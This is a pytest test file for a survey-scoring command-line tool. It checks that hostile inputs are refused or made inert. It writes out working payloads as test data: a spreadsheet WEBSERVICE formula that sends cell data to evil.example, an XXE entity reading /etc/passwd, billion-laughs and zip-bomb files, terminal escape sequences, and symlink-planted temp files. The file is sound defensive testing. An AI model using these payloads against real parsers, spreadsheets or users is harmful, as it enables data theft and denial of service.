"""Issue 12, points 11 to 20: no hostile file can crash, hang or inject.

Every hostile input is built here, in the test; each test asserts the exact outcome:
the message, exit status 1 (or 0 where the input is awkward but valid), no
traceback, nothing written, nothing leaked.
"""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import pytest

from tests.conftest import FIXTURES, ROOT

MARKUP = "[/x] [bold]x[/bold] :smile:"
MATH = r"$\foo$ $x^2$"

SURVEY = """\
relimpact: 1
id: hostile
title: 'Title {markup} {math}'
min_group_size: 5
scales:
  agree5:
    points:
      1: 'Strongly disagree {markup}'
      2: Disagree
      3: Neither
      4: Agree
      5: Strongly agree
    favourable_from: 4
dimensions:
  lead:
    label: 'Lead {markup} {math}'
    enabler: true
questions:
  - {{id: q1, text: 'Leaders listen {markup} {math}', scale: agree5, dimension: lead}}
  - {{id: q2, text: 'Leaders explain {math}', scale: agree5, dimension: lead}}
  - {{id: role, text: 'Role {markup}', type: choice, options: ['A {markup}', B], segment: true}}
"""


def hostile_survey(folder: Path) -> Path:
    path = folder / "survey.yaml"
    path.write_text(SURVEY.format(markup=MARKUP, math=MATH), encoding="utf-8")
    return path


def responses(path: Path, rows: list[list[str]] | None = None, n: int = 24) -> Path:
    labels = ["Agree", "Disagree", f"Strongly disagree {MARKUP}", "Strongly agree"]
    if rows is None:
        rows = [
            [labels[i % 4], labels[(i + 1) % 4], f"A {MARKUP}" if i % 2 else "B"] for i in range(n)
        ]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow([f"Leaders listen {MARKUP} {MATH}", f"Leaders explain {MATH}", f"Role {MARKUP}"])
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def no_traceback(r) -> None:  # noqa: ANN001
    assert "Traceback" not in r.stderr, r.stderr[-3000:]


# ------------------------------------------------------------------ 11. markup and mathtext


def test_markup_in_labels_titles_and_file_names_is_printed_as_plain_text(cli, tmp_path):
    survey = hostile_survey(tmp_path)
    folder = tmp_path / "d["  # the file's path holds "[/x]"
    folder.mkdir()
    data = responses(folder / "x] answers.csv")
    r = cli("check", survey)
    no_traceback(r)
    assert r.returncode == 0
    assert f"Title {MARKUP}" in r.stdout.replace("\n", " ") or MARKUP in r.stdout
    assert ":smile:" in r.stdout and "😄" not in r.stdout
    r = cli("score", survey, data, "--by", "role")
    no_traceback(r)
    assert r.returncode == 0
    assert "[/x]" in r.stdout and "[bold]x[/bold]" in r.stdout
    r = cli("inspect", survey, data)
    no_traceback(r)
    assert r.returncode == 0
    assert "[/x]" in r.stdout
    r = cli("inspect", survey, data, "--format", "json")
    assert json.loads(r.stdout)["files"][0]["path"].endswith("d[/x] answers.csv")
    out = tmp_path / "o["
    out.mkdir()
    r = cli("score", survey, data, "-o", out / "x].txt")
    no_traceback(r)
    assert r.returncode == 0 and "wrote" in r.stderr and "[/x].txt" in r.stderr
    assert "[/x]" in (out / "x].txt").read_text()


def test_mathtext_in_statements_is_drawn_as_written(cli, tmp_path):
    survey = hostile_survey(tmp_path)
    data = responses(tmp_path / "answers.csv")
    for audience in ("funder", "members"):
        for fmt in ("html", "md"):
            out = tmp_path / f"report-{audience}.{fmt}"
            r = cli("report", survey, data, "--audience", audience, "--by", "role", "-o", out)
            no_traceback(r)
            assert r.returncode == 0, r.stderr
            assert out.is_file()
    html = (tmp_path / "report-funder.html").read_text()
    assert "Leaders listen" in html
    # the chart's text is the statement itself, not a formula drawn from it
    assert "\\foo" in html


def test_charts_never_parse_mathtext():
    from relimpact.report.charts import ItemBar, items_chart

    chart = items_chart(
        [ItemBar(r"$\foo$ {1}", (1, 2, 3, 4, 5), 0)],
        ["1", "2", "3", "4", "5"],
        r"$\frac$",
        "c1",
        na_label="Don't know",
    )
    assert r"$\foo$" in chart.svg or r"\foo" in chart.svg


# ------------------------------------------------------------------ 15c, 16. echoed values


ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil.example/\x1b\\click\x9b31m\u202e"


def test_terminal_escapes_in_cells_never_reach_the_terminal(cli, tmp_path):
    survey = hostile_survey(tmp_path)
    rows = [["Agree", "Agree", "B"]] * 6 + [[f"Agree{ESCAPES}", "Agree", "B"]]
    data = responses(tmp_path / "answers.csv", rows)
    (tmp_path / "header.csv").write_text(
        f"Leaders listen {ESCAPES},Leaders explain,Role\nAgree,Agree,B\n", encoding="utf-8"
    )
    for args in (
        ("inspect", survey, data),
        ("inspect", survey, data, "--format", "json"),
        ("score", survey, data),
        ("inspect", survey, tmp_path / "header.csv"),
        ("score", survey, tmp_path / "header.csv"),
    ):
        r = cli(*args)
        no_traceback(r)
        for stream in (r.stdout, r.stderr):
            assert "\x1b" not in stream and "\x07" not in stream and "\x9b" not in stream
            assert "\u202e" not in stream
    r = cli("score", survey, data)
    assert r.returncode == 1
    assert "(row 8)" in r.stderr and r.stderr.count("\n") == 1  # one line, no raw escape


def test_a_huge_bad_cell_is_not_echoed_whole(cli, tmp_path):
    survey = hostile_survey(tmp_path)
    big = "Z" * 4_000_000
    data = responses(
        tmp_path / "answers.csv", [["Agree", "Agree", "B"]] * 6 + [["Agree", big, "B"]]
    )
    r = cli("score", survey, data)
    no_traceback(r)
    assert r.returncode == 1
    assert r.stderr.startswith("Error: ")
    assert "4000000 characters" in r.stderr and "(row 8)" in r.stderr
    assert len(r.stderr) < 3000
    r = cli("inspect", survey, data, "--format", "json")
    no_traceback(r)
    assert r.returncode == 1
    assert len(r.stdout) < 20_000
    problem = json.loads(r.stdout)["problems"][0]
    assert len(problem["value"]) < 1000 and "4000000 characters" in problem["value"]
    r = cli("inspect", survey, data)
    assert len(r.stdout) < 20_000


def test_problem_messages_are_one_printable_line():
    from relimpact.common.errors import Problem, ResponseError

    p = Problem("f.csv, row 2\x1b[31m", "'a\nError: fake\x1b]0;t\x07' is wrong", "fix\rit")
    text = str(p)
    assert "\n" not in text and "\x1b" not in text and "\r" not in text
    assert "'a\\nError: fake\\x1b]0;t\\x07'" in text
    assert str(ResponseError(problems=[p, p])).count("\n") == 2
    long = str(Problem("f", "x" * 100_000))
    assert len(long) < 700 and "characters cut" in long


# ------------------------------------------------------------------ 14. depth, seed, 64 options


@pytest.mark.parametrize(
    "text, line",
    [
        ("x: " + "[" * 1000 + "\n", ""),
        ("x: " + "[" * 70 + "]" * 70 + "\n", ":1"),
        ("x:\n" + "".join(" " * i + "a:\n" for i in range(1, 200)), ":65"),
    ],
)
def test_deeply_nested_yaml_is_a_clean_error(cli, tmp_path, text, line):
    path = tmp_path / "survey.yaml"
    path.write_text(text)
    r = cli("check", path)
    no_traceback(r)
    assert r.returncode == 1
    assert r.stderr == (
        f"Error: {path}{line}: lists or mappings are nested more than 64 levels deep; a survey "
        "template needs six or seven. Check for unclosed '[' or '{' brackets.\n"
    )


@pytest.mark.parametrize("seed", ["-1", str(2**128)])
def test_a_negative_or_huge_seed_is_a_clean_error(cli, tmp_path, seed):
    survey = hostile_survey(tmp_path)
    data = responses(tmp_path / "answers.csv")
    out = tmp_path / "scores.json"
    r = cli("score", survey, data, "--seed", seed, "--format", "json", "-o", out)
    no_traceback(r)
    assert r.returncode == 1
    assert r.stderr == (
        f"Error: --seed {seed}: the seed of the bootstrap intervals is a whole number from 0 to "
        "2**128 - 1. Leave --seed out for the fixed default, or give e.g. --seed 2026.\n"
    )
    assert not out.exists()


def multi_survey(folder: Path, k: int) -> Path:
    options = ", ".join(f"Option {i}" for i in range(1, k + 1))
    path = folder / "survey.yaml"
    path.write_text(
        "relimpact: 1\nid: m\ntitle: M\nscales:\n  agree5:\n    points: {1: Strongly disagree, "
        "2: Disagree, 3: Neither, 4: Agree, 5: Strongly agree}\ndimensions:\n"
        "  lead: {label: Lead, enabler: true}\nquestions:\n"
        "  - {id: q1, text: Leaders listen, scale: agree5, dimension: lead}\n"
        f"  - {{id: topics, text: Topics, type: multi, options: [{options}]}}\n"
    )
    return path


@pytest.mark.parametrize("k", [63, 64, 65, 130])
def test_a_multi_question_with_64_or_more_options_reads_every_option(tmp_path, k):
    from relimpact import load_survey, read_responses
    from relimpact.common.errors import ResponseError

    survey = load_survey(multi_survey(tmp_path, k))
    data = tmp_path / "answers.csv"
    data.write_text(
        "Leaders listen,Topics\n"
        f'Agree,"Option 1, Option {k}"\n'
        f'Agree,"Option 63;Option {k - 1}"\n'
        "Agree,\n"
    )
    r = read_responses(survey, [data])
    options, ticks = r.multi["topics"]
    picked = [[options[j] for j in range(k) if ticks[i][j]] for i in range(3)]
    assert picked == [
        ["Option 1", f"Option {k}"],
        sorted({"Option 63", f"Option {k - 1}"}, key=lambda o: int(o.split()[1])),
        [],
    ]
    data.write_text(f'Leaders listen,Topics\nAgree,"Option {k}, Option {k + 1}"\n')
    with pytest.raises(ResponseError, match=f"'Option {k + 1}'"):
        read_responses(survey, [data])


# ------------------------------------------------------------------ 17. no formula in any xlsx


def test_the_built_xlsform_holds_text_never_a_formula(cli, tmp_path):
    import openpyxl

    survey = tmp_path / "survey.yaml"
    survey.write_text(
        SURVEY.format(markup="x", math="y")
        .replace("title: 'Title x y'", "title: '=WEBSERVICE(\"http://evil.example/?\"&A1)'")
        .replace("text: 'Leaders listen x y'", 'text: \'=HYPERLINK("http://evil.example","x")\'')
        .replace("options: ['A x', B]", "options: ['=1+1', '@SUM(A1)', '+2', '-3']")
    )
    out = tmp_path / "form.xlsx"
    r = cli("build", survey, "--to", "xlsform", "-o", out)
    no_traceback(r)
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(out)
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    kinds = {c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}
    assert kinds == {"s"}
    assert '=HYPERLINK("http://evil.example","x")' in texts
    assert {"=1+1", "@SUM(A1)", "+2", "-3"} <= texts


# ------------------------------------------------------------------ 18. Markdown reports


LINKS = (
    "![x](//evil.example/p.png) [click](http://evil.example) <img src=http://evil.example/i> "
    "https://evil.example/a www.evil.example jane@evil.example [ref]: http://evil.example"
)


def test_markdown_reports_show_every_text_as_written_with_no_link_or_image(cli, tmp_path):
    survey = tmp_path / "survey.yaml"
    text = SURVEY.format(markup="*bold* _em_ # h", math=LINKS.replace("'", ""))
    text = text.replace(
        "min_group_size: 5", "min_group_size: 5\nnetwork: '[n](http://evil.example)'"
    )
    survey.write_text(text)
    rows = [["Agree", "Disagree", "B"]] * 12
    data = tmp_path / "answers.csv"
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(
        [
            f"Leaders listen *bold* _em_ # h {LINKS}",
            f"Leaders explain {LINKS}",
            "Role *bold* _em_ # h",
        ]
    )
    w.writerows(rows)
    data.write_text(buf.getvalue())
    for audience in ("funder", "members"):
        out = tmp_path / f"{audience}.md"
        r = cli("report", survey, data, "--audience", audience, "--by", "role", "-o", out)
        no_traceback(r)
        assert r.returncode == 0, r.stderr
        md = out.read_text()
        assert "Leaders listen" in md
        # every link-like text is inert: escaped brackets, entities, or a code span
        assert "](" not in md.replace("\\](", "")
        assert "<img" not in md and "<http" not in md
        for bare in ("https://evil.example/a", "www.evil.example", "jane@evil.example"):
            assert bare not in md.replace(f"`{bare}`", "")
        assert "*bold*" not in md and "\\*bold\\*" in md


def test_md_literal_leaves_nothing_a_markdown_renderer_would_link():
    from relimpact.common.text import md_literal

    assert md_literal("![x](//h/p.png)") == "!\\[x\\](`//h/p.png)`"
    assert md_literal("[a](http://e)") == "\\[a\\](`http://e)`"
    assert md_literal("<script>") == "&lt;script&gt;"
    assert md_literal("[x]: http://e") == "\\[x\\]: `http://e`"
    assert md_literal("I'm [name], call [phone]") == "I'm [name], call [phone]"
    assert md_literal("- item") == "\\- item" and md_literal("1. item") == "1\\. item"
    assert md_literal("a|b\nc") == "a\\|b c"
    assert md_literal("cop_late and _em_") == "cop_late and \\_em\\_"
    assert md_literal("psych::alpha 4.2") == "psych::alpha 4.2"


# ------------------------------------------------------------------ 19. demo --out


def test_demo_refuses_a_folder_it_did_not_make(cli, tmp_path):
    out = tmp_path / "mine"
    out.mkdir()
    (out / "survey.yaml").write_text("my own survey\n")
    (out / "responses.csv").write_text("my,own\n1,2\n")
    r = cli("demo", "--out", out)
    no_traceback(r)
    assert r.returncode == 1
    assert r.stderr == (
        f"Error: {out}: already exists, is not empty and is not a folder the demo made; "
        "nothing was written. Give a new folder, e.g. relimpact demo --out "
        "relimpact-demo-2.\n"
    )
    assert sorted(p.name for p in out.iterdir()) == ["responses.csv", "survey.yaml"]
    assert (out / "survey.yaml").read_text() == "my own survey\n"


def test_demo_runs_again_in_its_own_folder_and_in_an_empty_one(tmp_path):
    from relimpact.demo import run_demo

    empty = tmp_path / "empty"
    empty.mkdir()
    run_demo(empty)
    (empty / "notes.txt").write_text("mine\n")
    again = run_demo(empty)
    assert (empty / ".relimpact-demo").is_file()
    assert (empty / "notes.txt").read_text() == "mine\n"
    assert {p.name for _, p in again.files} >= {"survey.yaml", "responses.csv"}


# ------------------------------------------------------------------ 20. -o targets, temp files


def test_output_onto_a_fifo_or_character_device_writes_through(cli, tmp_path):
    import threading

    survey = hostile_survey(tmp_path)
    data = responses(tmp_path / "answers.csv")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    r = cli("score", survey, data, "--format", "json", "-o", fifo)
    reader.join(60)
    no_traceback(r)
    assert r.returncode == 0, r.stderr
    assert fifo.is_fifo()
    assert json.loads(got[0])["respondents"] == 24
    r = cli("score", survey, data, "--format", "json", "-o", "/dev/null")
    assert r.returncode == 0, r.stderr
    assert Path("/dev/null").is_char_device()
    assert not list(Path("/dev").glob(".null.*.tmp"))


def test_output_onto_a_symlink_follows_it_and_keeps_the_link(cli, tmp_path):
    survey = hostile_survey(tmp_path)
    data = responses(tmp_path / "answers.csv")
    target = tmp_path / "real.json"
    target.write_text("old\n")
    link = tmp_path / "link.json"
    link.symlink_to(target)
    r = cli("score", survey, data, "--format", "json", "-o", link)
    assert r.returncode == 0, r.stderr
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert json.loads(target.read_text())["respondents"] == 24
    # a link onto an input is refused like the input itself
    (tmp_path / "in.json").symlink_to(data)
    r = cli("score", survey, data, "--format", "json", "-o", tmp_path / "in.json")
    assert r.returncode == 1 and "is one of the input files" in r.stderr
    assert data.read_text().startswith("Leaders listen")


def test_init_force_never_writes_through_a_planted_temporary_file(cli, tmp_path):
    folder = tmp_path / "x"
    folder.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (folder / ".survey.yaml.tmp").symlink_to(victim)
    (folder / ".README.md.tmp").symlink_to(victim)
    r = cli("init", folder, "--force")
    no_traceback(r)
    assert r.returncode == 0, r.stderr
    assert victim.read_text() == "precious\n"
    assert (folder / "survey.yaml").read_text().startswith("# relimpact bundled template")
    assert not [p for p in folder.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()]


@pytest.mark.parametrize(
    ("signame", "code", "words"),
    [("SIGTERM", 143, "Terminated"), ("SIGINT", 130, "Interrupted")],
)
def test_sigterm_removes_the_temporary_file(tmp_path, signame, code, words):
    import signal
    import subprocess
    import sys
    import time

    out = tmp_path / "out.txt"
    script = (
        "import sys, relimpact.common.output as o\n"
        "def slow(self, data):\n"
        "    sys.stdout.write('writing\\n'); sys.stdout.flush()\n"
        "    import time; time.sleep(60)\n"
        "import io\n"
        "F = type('F', (io.FileIO,), {'write': slow})\n"
        "o.os.fdopen = lambda fd, mode: F(fd, mode)\n"
        "sys.argv = ['relimpact', 'build', sys.argv[1], '--to', 'md', '-o', sys.argv[2]]\n"
        "from relimpact.cli import main; main()\n"
    )
    survey = hostile_survey(tmp_path)
    p = subprocess.Popen(
        [sys.executable, "-c", script, str(survey), str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        # Ctrl-C as a terminal gives it, even when these tests run where it is ignored
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    assert p.stdout is not None
    assert p.stdout.readline() == "writing\n"
    assert [q.name for q in tmp_path.glob(".out.txt.*.tmp")]
    p.send_signal(getattr(signal, signame))
    _, err = p.communicate(timeout=60)
    assert p.returncode == code
    assert err == f"{words}; no output was written.\n"
    assert not list(tmp_path.glob(".out.txt.*"))
    assert not out.exists()
    del time


# ------------------------------------------------------------------ 12. hostile .xlsx files


def _rezip(out: Path, change) -> Path:  # noqa: ANN001 - change(name, bytes) -> bytes | None
    src = FIXTURES / "exports" / "plain.xlsx"
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zo:
        for item in zi.infolist():
            data = change(item.filename, zi.read(item.filename))
            if data is not None:
                zo.writestr(item.filename, data)
    return out


SHEET = "xl/worksheets/sheet1.xml"
LOL = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'.encode() for i in range(2, 10)
    ).replace(b"&lol1;", b"&lol;")
    + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    b"</sheetData></worksheet>"
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
    b"</sheetData></worksheet>"
)
DTD = (
    "the part 'xl/worksheets/sheet1.xml' declares a document type or XML entities, which no "
    "Excel workbook does; refused unread (it could be an XML entity attack). Export the "
    "responses again from the survey tool as .xlsx or as CSV UTF-8."
)


@pytest.mark.parametrize(
    "change, message",
    [
        (
            lambda n, d: d[: len(d) // 2] if n == SHEET else d,
            "the worksheet 'Sheet1' is damaged and cannot be read (ParseError). Open it in "
            "Excel or LibreOffice and save it again, or export the responses again as .xlsx "
            "or CSV UTF-8.",
        ),
        (lambda n, d: LOL if n == SHEET else d, DTD),
        (lambda n, d: XXE if n == SHEET else d, DTD),
        (
            lambda n, d: (
                d[: d.index(b"<sheets>")] + b"<sheets/>" + d[d.index(b"</sheets>") + 9 :]
                if n == "xl/workbook.xml"
                else d
            ),
            "this workbook has no worksheet, so there are no responses to read. Export the "
            "responses again from the survey tool as .xlsx or CSV UTF-8.",
        ),
        (
            lambda n, d: (
                d.replace(b"<sheetData>", b"<sheetData>" + b" " * 20_000_000) if n == SHEET else d
            ),
            "the part 'xl/worksheets/sheet1.xml' would unpack",
        ),
    ],
    ids=["malformed-xml", "billion-laughs", "xxe", "no-sheet", "zip-bomb"],
)
def test_a_hostile_xlsx_is_refused_with_a_message(cli, tmp_path, change, message):
    from relimpact import load_survey
    from relimpact.common.errors import ResponseError
    from relimpact.read.reading import read_responses
    from tests.test_reading import SURVEY

    path = _rezip(tmp_path / "export.xlsx", change)
    with pytest.raises(ResponseError) as info:
        read_responses(SURVEY, [path])
    assert str(info.value).startswith(f"{path}: {message}")
    survey = hostile_survey(tmp_path)
    assert load_survey(survey)
    out = tmp_path / "scores.json"
    r = cli("score", survey, path, "--format", "json", "-o", out)
    no_traceback(r)
    assert r.returncode == 1
    assert r.stderr.startswith(f"Error: {path}: {message}")
    assert "passwd" not in r.stderr and "root:" not in r.stderr
    assert not out.exists()


def test_zip_bomb_limits_are_read_from_the_zip_directory_before_unpacking(tmp_path):
    """A part whose directory entry claims 2 GiB is refused without reading a byte of it."""
    from relimpact.common.errors import ResponseError
    from relimpact.read.readers import open_table

    path = _rezip(tmp_path / "export.xlsx", lambda n, d: d)
    raw = bytearray(path.read_bytes())
    entry = raw.index(b"PK\x01\x02")
    while entry != -1:  # every central directory entry: uncompressed size at offset 24
        raw[entry + 24 : entry + 28] = (2**31).to_bytes(4, "little")
        entry = raw.find(b"PK\x01\x02", entry + 4)
    path.write_bytes(bytes(raw))
    with pytest.raises(ResponseError, match="would unpack to [0-9,]+ bytes .more than"):
        open_table(path)


def test_real_xlsx_exports_are_within_the_limits():
    from relimpact.read.readers import check_xlsx

    real = ROOT.parent / "shared" / "real-exports"
    files = [*real.rglob("*.xlsx"), *(FIXTURES / "exports").glob("*.xlsx")]
    assert len(files) >= 4
    for path in files:
        check_xlsx(path, str(path))


# ------------------------------------------------------------------ 15. wide and long headers


def small_survey_file(folder: Path) -> Path:
    path = folder / "survey.yaml"
    path.write_text(
        "relimpact: 1\nid: s\ntitle: S\nscales:\n  agree5:\n    points: {1: Strongly disagree, "
        "2: Disagree, 3: Neither, 4: Agree, 5: Strongly agree}\ndimensions:\n"
        "  lead: {label: Lead, enabler: true}\nquestions:\n"
        "  - {id: q1, text: Leaders listen, scale: agree5, dimension: lead}\n"
        "  - {id: q2, text: Leaders explain, scale: agree5, dimension: lead}\n"
        "  - {id: role, text: Role, type: choice, options: [A, B], segment: true}\n"
    )
    return path


def test_a_header_ending_in_100000_empty_columns_reads_in_little_memory(tmp_path):
    import tracemalloc

    from relimpact import load_survey, read_responses

    survey = load_survey(small_survey_file(tmp_path))
    data = tmp_path / "wide.csv"
    data.write_text(
        "Leaders listen,Leaders explain,Role" + "," * 100_000 + "\n" + "Agree,Disagree,B\n" * 10_000
    )
    tracemalloc.start()
    try:
        r = read_responses(survey, [data])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert r.respondents == 10_000
    assert set(r.scale["q1"].tolist()) == {4.0} and set(r.scale["q2"].tolist()) == {2.0}
    assert peak < 150 * 1024 * 1024, f"{peak:,} bytes"  # it took 857 MB


def test_records_are_cut_to_the_header_content_width():
    from relimpact.read.readers import Header, Layout, RawTable
    from relimpact.read.reading import _clean_chunk

    table = RawTable(
        path=Path("x.csv"),
        name="x.csv",
        kind="csv",
        encoding="utf-8",
        delimiter=",",
        layout=Layout("csv", 1, 0),
        headers=tuple(Header(i, "h" if i < 2 else "", "h" if i < 2 else "") for i in range(1000)),
        width=1000,
        content_width=2,
    )
    rows, numbers = _clean_chunk([["a", "b"], ["a", "b", *[""] * 998], ["", ""]], 2, table)
    assert rows == [["a", "b"], ["a", "b"]] and numbers.tolist() == [2, 3]


def test_a_header_longer_than_256_kib_is_read_whole(tmp_path):
    from relimpact import load_survey, read_responses
    from relimpact.read.readers import open_table

    survey = load_survey(small_survey_file(tmp_path))
    long = "Extra " + "x" * (300 * 1024)
    data = tmp_path / "long.csv"
    data.write_text(f'Leaders listen,"{long}",Leaders explain,Role\n' + "Agree,,Disagree,B\n" * 6)
    table = open_table(data)
    assert [h.label for h in table.headers] == ["Leaders listen", long, "Leaders explain", "Role"]
    r = read_responses(survey, [data])
    assert r.respondents == 6 and set(r.scale["q2"].tolist()) == {2.0}


def test_a_header_row_of_more_than_64_mib_is_refused(cli, tmp_path):
    survey = small_survey_file(tmp_path)
    data = tmp_path / "huge.csv"
    data.write_text("x" * (65 * 1024 * 1024) + "\nAgree\n")
    r = cli("inspect", survey, data)
    no_traceback(r)
    assert r.returncode == 1
    assert r.stderr == (
        f"Error: {data}, row 1: the first row (the column headers) is longer than 67,108,864 "
        "characters, far more than an export's headers. Check that this is the responses file "
        "as the survey tool exported it.\n"
    )


# ------------------------------------------------------------------ 13. scale point values


@pytest.mark.parametrize(
    "points, shown",
    [
        ("{1: a, 1000000000000: b}", "1000000000000"),
        ("{1: a, 100000000000000000000000000000: b}", "100000000000000000000000000000"),
        ("{-9223372036854775808: a, 9223372036854775807: b}", "-9223372036854775808"),
        ("{1: a, 10001: b}", "10001"),
    ],
)
def test_scale_point_values_are_bounded_with_a_clear_message(cli, tmp_path, points, shown):
    path = tmp_path / "survey.yaml"
    path.write_text(
        f"relimpact: 1\nid: s\ntitle: S\nscales:\n  x:\n    points: {points}\ndimensions:\n"
        "  lead: {label: Lead, enabler: true}\nquestions:\n"
        "  - {id: q1, text: Leaders listen, scale: x, dimension: lead}\n"
        "  - {id: q2, text: Leaders explain, scale: x, dimension: lead}\n"
    )
    r = cli("check", path)
    no_traceback(r)
    assert r.returncode == 1
    assert r.stderr == (
        f"Error: {path}:6: scales.x.points: the point value {shown} is outside -10,000 to "
        "10,000; scale points are small whole numbers. Number the points as people answer "
        "them: 1 to 5, 0 to 10, or 0 to 100.\n"
    )


def test_the_widest_allowed_scale_scores_exactly(tmp_path):
    from relimpact import load_survey, read_responses, score

    path = tmp_path / "survey.yaml"
    path.write_text(
        "relimpact: 1\nid: s\ntitle: S\nmin_group_size: 3\nscales:\n  x:\n"
        "    points: {-10000: Low, 10000: High}\ndimensions:\n"
        "  lead: {label: Lead, enabler: true}\nquestions:\n"
        "  - {id: q1, text: Leaders listen, scale: x, dimension: lead}\n"
        "  - {id: q2, text: Leaders explain, scale: x, dimension: lead, reverse: true}\n"
    )
    data = tmp_path / "a.csv"
    data.write_text("Leaders listen,Leaders explain\n" + "High,Low\nHigh,High\nLow,Low\n" * 2)
    result = score(read_responses(load_survey(path), [data]))
    # scores per person: (10000 + 10000)/2, (10000 - 10000)/2, (-10000 + 10000)/2
    assert result.dimensions["lead"].mean == pytest.approx(10000 / 3, abs=1e-9)


# ------------------------------------------------------------------ found by the fuzz test


def test_a_surveymonkey_like_header_followed_by_a_blank_line_is_read(tmp_path):
    """Found by tests/test_fuzz.py: "RespondentID" then an empty line was an IndexError."""
    from relimpact.read.readers import open_table

    path = tmp_path / "export.csv"
    path.write_text("RespondentID,Have you seen it?\n\n,Response\n1,Yes\n")
    table = open_table(path)
    assert table.layout.format == "csv" and table.layout.header_rows == 1
    assert [h.label for h in table.headers] == ["RespondentID", "Have you seen it?"]


def test_a_blank_trailing_header_column_with_cells_is_not_read(tmp_path):
    """Found by tests/test_fuzz.py: a column index past the cut records was an IndexError."""
    from relimpact import load_survey, read_responses

    survey = load_survey(small_survey_file(tmp_path))
    data = tmp_path / "a.csv"
    data.write_text(
        "Leaders listen,Leaders explain,Role,Other,,,\n" + "Agree,Disagree,B,x,,,\n" * 6
    )
    r = read_responses(survey, [data])
    assert r.respondents == 6
